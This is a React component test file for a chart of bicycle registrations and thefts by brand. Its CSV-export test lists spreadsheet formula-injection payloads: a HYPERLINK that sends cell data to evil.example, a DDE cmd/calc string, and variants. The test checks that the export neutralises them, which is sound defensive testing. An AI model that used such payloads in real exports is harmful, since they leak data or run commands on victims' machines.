import { render, screen, waitFor, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { parse } from 'csv-parse/sync';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { fillOf } from './bars-chart';
import { CountsChart } from './counts-chart';

const series = [
  { label: 'Registreringar', colour: 'bg-primary' },
  { label: 'Stölder', colour: 'bg-destructive' },
  { label: 'Andel', colour: 'bg-success', bar: false },
];
const rows = [
  { key: 'crescent', label: 'Crescent', values: [1200, 30, 2.5] },
  { key: 'monark', label: 'Monark', values: [900, 12, null] },
];

describe('CountsChart', () => {
  it('gives the numbers as a table and draws the bars with recharts, loaded on demand', async () => {
    const { container } = render(
      <CountsChart
        title="Per märke"
        keyHeader="Märke"
        series={series}
        rows={rows}
        fileName="marken.csv"
        emptyText="Inget att visa"
      />,
    );
    const table = screen.getByRole('table', { name: 'Per märke' });
    const monark = within(table).getByRole('row', { name: /Monark/ });
    expect(
      within(monark)
        .getAllByRole('cell')
        .map((cell) => cell.textContent),
    ).toEqual(['900', '12', '–']);
    // The chart is for the eye: hidden from the accessibility tree, the table carries the numbers.
    await waitFor(() => expect(container.querySelector('.recharts-responsive-container')).not.toBeNull());
    expect(
      container.querySelector('.recharts-responsive-container')?.closest('[aria-hidden="true"]'),
    ).not.toBeNull();
  });

  it('shows the empty text and no chart without rows', () => {
    const { container } = render(
      <CountsChart
        title="Per märke"
        keyHeader="Märke"
        series={series}
        rows={[]}
        fileName="marken.csv"
        emptyText="Inget att visa"
      />,
    );
    expect(screen.getByText('Inget att visa')).toBeInTheDocument();
    expect(screen.queryByRole('table')).toBeNull();
    expect(container.querySelector('.recharts-responsive-container')).toBeNull();
  });

  describe('the CSV download', () => {
    afterEach(() => vi.restoreAllMocks());

    it("writes a customer's formulas in a brand or a city as text (issue 50, item 3)", async () => {
      // jsdom saves no files: the test reads the blob the page hands to the browser's download.
      const blobs: Blob[] = [];
      vi.spyOn(URL, 'createObjectURL').mockImplementation((blob) => {
        if (blob instanceof Blob) blobs.push(blob);
        return 'blob:test/csv';
      });
      vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => undefined);
      const hostile = [
        '=HYPERLINK("https://evil.example/?d="&A1,"Klicka här")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        '+cmd',
        '-2+3',
        '\uFF1D1+1',
        ' =1+1',
      ];
      render(
        <CountsChart
          title="Per märke"
          keyHeader="Märke"
          series={series}
          rows={[
            ...hostile.map((label, index) => ({ key: label, label, values: [index, -1, null] })),
            ...rows,
          ]}
          fileName="marken.csv"
          emptyText="Inget att visa"
        />,
      );
      await userEvent.click(screen.getByRole('button', { name: /csv/i }));
      // jsdom's Blob has no text(); its FileReader reads it.
      const csv = await new Promise<string>((resolve) => {
        const reader = new FileReader();
        reader.onload = () => resolve(typeof reader.result === 'string' ? reader.result : '');
        reader.readAsText(blobs[0] ?? new Blob());
      });
      const cells: string[][] = parse(csv, { delimiter: ';', bom: true });
      expect(cells[0]).toEqual(['Märke', 'Registreringar', 'Stölder', 'Andel']);
      expect(cells.slice(1, 1 + hostile.length).map((row) => row[0])).toEqual(
        hostile.map((label) => `'${label}`),
      );
      // Numbers are ours: a negative one is not defused, a missing one is empty.
      expect(cells[1]?.slice(1)).toEqual(['0', '-1', '']);
      expect(cells.at(-1)).toEqual(['Monark', '900', '12', '']);
    });
  });

  it("fills each series with its theme colour's variable", () => {
    expect(fillOf('bg-primary')).toBe('var(--color-primary)');
    expect(fillOf('bg-destructive')).toBe('var(--color-destructive)');
  });
});
